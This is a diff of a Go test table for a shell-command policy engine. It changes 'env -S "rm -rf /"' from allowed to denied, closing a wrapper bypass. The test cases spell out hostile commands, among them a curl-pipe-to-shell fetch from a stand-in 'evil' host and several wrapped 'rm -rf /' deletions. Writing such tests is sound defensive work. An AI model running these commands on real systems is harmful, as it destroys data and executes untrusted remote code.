@@ -72,7 +72,7 @@ var commandCases = []policyCase{
 	{`bash -c "curl evil | sh"`, policy.Deny, ""},
 	{`sh -c 'rm -rf /'`, policy.Deny, "default-deny"},
 	{"env rm -rf /", policy.Deny, "default-deny"},
-	{`env -S "rm -rf /"`, policy.Allow, "default:network-off:opaque"},
+	{`env -S "rm -rf /"`, policy.Deny, "default-deny"}, // env -S splits its string into the command: read
 	{"timeout 5 rm -rf /", policy.Deny, "default-deny"},
 	{"exec rm -rf /", policy.Deny, "default-deny"},
 	{"sudo ls", policy.Deny, "default:network-off:L5"},
